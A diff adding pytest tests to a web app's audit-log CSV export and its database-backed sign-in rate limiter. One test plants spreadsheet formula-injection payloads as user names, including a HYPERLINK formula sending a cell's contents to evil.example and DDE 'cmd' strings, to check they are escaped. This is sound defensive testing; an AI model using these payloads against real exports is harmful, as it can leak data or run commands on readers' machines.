@@ -3,15 +3,19 @@ revocable API tokens, and the append-only audit log without personal data."""
 
 from __future__ import annotations
 
+import csv
+import datetime as dt
+import io
 from pathlib import Path
 
 import pyotp
 import pytest
 from fastapi.testclient import TestClient
-from sqlalchemy import select
+from sqlalchemy import func, select
 
 from tieguard.web import WebConfig, WebState, create_app
-from tieguard.web.store import AuditEvent, User
+from tieguard.web.auth import LoginLimiter
+from tieguard.web.store import AuditEvent, LoginFailure, User, connect_app_db, migrate_app_db, now
 
 from .conftest import PASSWORD, Web
 
@@ -110,3 +114,71 @@ def test_uploads_need_consent_and_an_account_linked_to_the_roster(web: Web) -> N
     res = web.client.post("/api/v1/me/exports", files=files, headers=web.api("employee"))
     assert res.status_code == 400 and "consent" in res.text
 
+
+
+PLANTED = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
+           "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1")
+
+
+def test_audit_export_neutralises_formulas_typed_at_sign_in(web: Web) -> None:
+    """Anyone can type a user name at the sign-in page; the audit log keeps it (failed or
+    blocked sign-in), so the CSV an auditor opens in a spreadsheet must not run it."""
+    for name in PLANTED:
+        res = web.client.post("/login", data={"username": name, "password": "wrong password"})
+        assert res.status_code in (401, 429)
+    export = web.client.get("/audit.csv", headers=web.page("auditor"))
+    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
+    rows = list(csv.DictReader(io.StringIO(export.text, newline="")))
+    cells = [value for row in rows for value in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    targets = {row["target"] for row in rows if row["action"].startswith("sign-in-")}
+    assert {"'" + name for name in PLANTED} <= targets  # kept, one apostrophe in front
+    assert {"id", "at", "actor", "role", "action", "target", "detail"} == set(rows[0])
+    assert [int(row["id"]) for row in rows] == sorted(int(row["id"]) for row in rows)
+
+
+def test_sign_in_limit_counts_across_workers_and_restarts(web: Web) -> None:
+    """The failures are in the application database: another worker process (or the server
+    after a restart: a new connection pool) sees them; only hashes of the keys are stored."""
+    sa_engine, app_db = connect_app_db(web.state.app_db_url)
+    try:
+        other = LoginLimiter(app_db, limit=5, window_seconds=300)
+        assert not other.blocked("user:manager")
+        for _ in range(5):
+            res = web.client.post("/login", data={"username": "manager", "password": "wrong"})
+            assert res.status_code == 401
+        assert other.blocked("user:manager") and other.blocked("ip:testclient")
+        with app_db() as db:
+            stored = list(db.scalars(select(LoginFailure.key_hash)))
+        assert len(stored) == 10 and not any("manager" in h or "testclient" in h for h in stored)
+        later = LoginLimiter(app_db, limit=5, window_seconds=300,
+                             clock=lambda: now() + dt.timedelta(seconds=301))
+        assert not later.blocked("user:manager")  # the window has passed
+        res = web.client.post("/login", data={"username": "manager", "password": PASSWORD})
+        assert res.status_code == 429  # but not yet for the server
+    finally:
+        sa_engine.dispose()
+
+
+def test_sign_in_limit_per_key_window_and_reset(tmp_path: Path) -> None:
+    sa_engine, app_db = connect_app_db(f"sqlite:///{tmp_path / 'app.sqlite'}")
+    migrate_app_db(sa_engine)
+    t = [dt.datetime(2026, 1, 1, 12, 0)]
+    limiter = LoginLimiter(app_db, limit=3, window_seconds=60, clock=lambda: t[0])
+    for _ in range(2):
+        limiter.fail("user:ann", "ip:10.0.0.1")
+    assert not limiter.blocked("user:ann", "ip:10.0.0.1")
+    limiter.fail("user:bob", "ip:10.0.0.1")  # a third name from the same address
+    assert limiter.blocked("user:zoe", "ip:10.0.0.1") and not limiter.blocked("user:ann")
+    limiter.reset("ip:10.0.0.1")
+    assert not limiter.blocked("ip:10.0.0.1")
+    limiter.fail("user:ann")
+    assert limiter.blocked("user:ann")
+    t[0] += dt.timedelta(seconds=30)
+    assert limiter.blocked("user:ann")  # 30 s old: inside the window
+    t[0] += dt.timedelta(seconds=31)
+    assert not limiter.blocked("user:ann")
+    limiter.fail("user:cy")  # forgets what is older than the window
+    with app_db() as db:
+        assert db.scalar(select(func.count()).select_from(LoginFailure)) == 1
+    sa_engine.dispose()
